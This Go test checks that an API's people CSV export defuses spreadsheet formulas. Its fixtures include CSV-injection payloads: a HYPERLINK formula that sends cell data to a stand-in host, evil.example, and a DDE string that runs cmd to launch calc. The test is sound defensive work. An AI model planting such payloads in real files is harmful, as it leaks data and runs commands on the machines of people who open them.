package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/optimum-bcp/optimum/internal/store/storetest"
)

// The people export is opened in spreadsheets: a name or an id that starts a formula
// comes out with an apostrophe in front (CSV injection), and the export still imports
// back unchanged.
func TestPeopleExportDefusesFormulas(t *testing.T) {
	storetest.Each(t, testPeopleExportDefusesFormulas)
}

func testPeopleExportDefusesFormulas(t *testing.T) {
	a := newAPI(t, adminToken)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Ana")`
	for _, p := range []map[string]any{
		{"name": evil, "email": "ana@example.com", "phone": "+525512345678", "language": "es", "external_id": "@SUM(1)"},
		{"name": "-2+3+cmd|' /C calc'!A0", "email": "bob@example.com", "language": "es"},
	} {
		if res := a.do("POST", "/api/v1/people", adminToken, p); res.status != 201 {
			t.Fatalf("create = %d %s", res.status, res.body)
		}
	}
	export := a.do("GET", "/api/v1/people/export", adminToken, nil)
	rows, err := csv.NewReader(bytes.NewReader(export.body)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("export = %v %s", err, export.body)
	}
	cells := map[string]bool{}
	for _, r := range rows[1:] {
		for _, c := range r {
			cells[c] = true
			if c != "" && (c[0] == '=' || c[0] == '@' || (c[0] == '-' && c != "-") || (c[0] == '+' && c != "+525512345678")) {
				t.Errorf("cell %q would run as a formula", c)
			}
		}
	}
	for _, want := range []string{"'" + evil, "'@SUM(1)", "'-2+3+cmd|' /C calc'!A0", "+525512345678"} {
		if !cells[want] {
			t.Errorf("no cell %q in:\n%s", want, export.body)
		}
	}
	res := a.upload("/api/v1/people/import", adminToken, "text/csv", export.body)
	if res.status != 200 || !bytes.Contains(res.body, []byte(`"unchanged":2`)) {
		t.Errorf("re-import of the export = %d %s", res.status, res.body)
	}
}
